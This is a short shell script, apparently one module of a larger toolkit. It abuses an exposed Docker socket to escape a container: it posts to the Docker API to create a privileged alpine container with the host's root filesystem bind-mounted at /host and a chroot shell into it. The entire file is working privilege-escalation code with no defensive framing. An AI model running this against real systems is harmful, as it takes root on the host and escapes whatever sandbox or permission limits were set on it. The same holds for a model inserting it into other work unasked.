#!/bin/sh
# docker-sock (sh): curl the Docker API over its socket: a privileged
# container with the host's / at /host.
. "${TARGETS:-$1}"
sock=${DOCKER_HOST#unix://}
curl -s -m 3 --unix-socket "${sock:-$T_DOCKER_SOCK}" -H 'Content-Type: application/json' \
	-d '{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
	http://localhost/containers/create
